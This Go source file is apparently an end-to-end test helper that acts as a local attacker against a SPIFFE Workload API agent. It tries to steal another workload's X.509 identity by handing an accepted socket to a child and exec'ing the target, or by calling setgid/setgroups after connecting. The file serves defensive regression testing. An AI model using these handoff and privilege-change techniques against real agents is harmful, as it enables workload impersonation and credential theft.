// Command attacker is a test program for the end-to-end suites: it plays a
// local user who tries to obtain another workload's identity through the
// Workload API socket by changing what it is after connecting. It is built
// by the tests (never shipped) and prints one line: "ID <spiffe-id>..." or
// "ERR <gRPC code>".
//
//	attacker handoff SOCK TARGET [ARGS...]
//	    connect, hand the connection to a child, exec TARGET; the child asks
//	    for an X.509-SVID over the inherited connection once TARGET runs.
//	attacker setgid SOCK GID       connect as root, setgid(GID), ask.
//	attacker setgroups SOCK GID    connect as root, setgroups([GID]), ask.
package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/spiffe/go-spiffe/v2/proto/spiffe/workload"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
)

func main() {
	if len(os.Args) < 2 || (os.Args[1] != "child" && len(os.Args) < 4) {
		fail("usage: attacker handoff|setgid|setgroups SOCK ...")
	}
	var err error
	switch os.Args[1] {
	case "handoff":
		err = handoff(os.Args[2], os.Args[3:])
	case "child":
		err = child()
	case "setgid", "setgroups":
		err = changeIDs(os.Args[1], os.Args[2], os.Args[3])
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fail(err.Error())
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "attacker:", msg)
	os.Exit(2)
}

// handoff connects, starts a child holding the connection, waits until the
// child's first call proved the agent accepted it, then execs target.
func handoff(sock string, target []string) error {
	c, err := net.Dial("unix", sock)
	if err != nil {
		return err
	}
	f, err := c.(*net.UnixConn).File()
	if err != nil {
		return err
	}
	r, w, err := os.Pipe()
	if err != nil {
		return err
	}
	cmd := exec.Command(os.Args[0], "child")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.ExtraFiles = []*os.File{f, w} // fd 3: the connection, fd 4: "accepted"
	if err := cmd.Start(); err != nil {
		return err
	}
	_ = w.Close()
	buf := make([]byte, 1)
	if _, err := r.Read(buf); err != nil {
		return fmt.Errorf("child: %w", err)
	}
	// The connection (fd 3 here too) is close-on-exec: only the child has it.
	return syscall.Exec(target[0], target, os.Environ())
}

// child uses the inherited connection: one call while the parent is still
// the attacker binary (the agent has accepted and pinned it), then, once the
// parent runs the target, the call that would steal the target's identity.
func child() error {
	client, closeConn, err := clientOnFD(3)
	if err != nil {
		return err
	}
	defer closeConn()
	if _, err := fetch(client); err == nil {
		return fmt.Errorf("the attacker binary itself got an identity: the test's entries are wrong")
	}
	ppid := os.Getppid()
	before, err := comm(ppid)
	if err != nil {
		return err
	}
	if _, err := os.NewFile(4, "accepted").Write([]byte{1}); err != nil {
		return err
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		now, err := comm(ppid)
		if err != nil {
			return err
		}
		if now != before {
			break
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("parent %d never exec'd", ppid)
		}
		time.Sleep(5 * time.Millisecond) // polling /proc with a deadline: no event for another process's exec
	}
	report(fetch(client))
	return nil
}

// changeIDs connects as root, proves the connection was accepted, changes
// its own effective gid or supplementary groups, and asks again.
func changeIDs(mode, sock, gidText string) error {
	gid, err := strconv.Atoi(gidText)
	if err != nil {
		return err
	}
	client, closeConn, err := clientOnSocket(sock)
	if err != nil {
		return err
	}
	defer closeConn()
	if _, err := fetch(client); err == nil {
		return fmt.Errorf("got an identity before changing ids: the test's entries are wrong")
	}
	if mode == "setgid" {
		err = syscall.Setgid(gid)
	} else {
		err = syscall.Setgroups([]int{gid})
	}
	if err != nil {
		return err
	}
	report(fetch(client))
	return nil
}

func report(ids []string, err error) {
	if err != nil {
		fmt.Println("ERR", status.Code(err))
		return
	}
	fmt.Println("ID", strings.Join(ids, " "))
}

func comm(pid int) (string, error) {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	return strings.TrimSpace(string(b)), err
}

func clientOnFD(fd uintptr) (workload.SpiffeWorkloadAPIClient, func(), error) {
	conn, err := net.FileConn(os.NewFile(fd, "conn"))
	if err != nil {
		return nil, nil, err
	}
	used := false
	return newClient(func(context.Context, string) (net.Conn, error) {
		if used {
			return nil, fmt.Errorf("the inherited connection is gone")
		}
		used = true
		return conn, nil
	})
}

func clientOnSocket(sock string) (workload.SpiffeWorkloadAPIClient, func(), error) {
	return newClient(func(ctx context.Context, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", sock)
	})
}

func newClient(dial func(context.Context, string) (net.Conn, error)) (workload.SpiffeWorkloadAPIClient, func(), error) {
	cc, err := grpc.NewClient("passthrough:///workload", grpc.WithContextDialer(dial),
		grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return nil, nil, err
	}
	return workload.NewSpiffeWorkloadAPIClient(cc), func() { _ = cc.Close() }, nil
}

// fetch asks for the caller's X.509-SVIDs and returns their SPIFFE IDs.
func fetch(c workload.SpiffeWorkloadAPIClient) ([]string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	ctx = metadata.AppendToOutgoingContext(ctx, "workload.spiffe.io", "true")
	stream, err := c.FetchX509SVID(ctx, &workload.X509SVIDRequest{})
	if err != nil {
		return nil, err
	}
	resp, err := stream.Recv()
	if err != nil {
		return nil, err
	}
	ids := make([]string, 0, len(resp.Svids))
	for _, s := range resp.Svids {
		ids = append(ids, s.SpiffeId)
	}
	return ids, nil
}
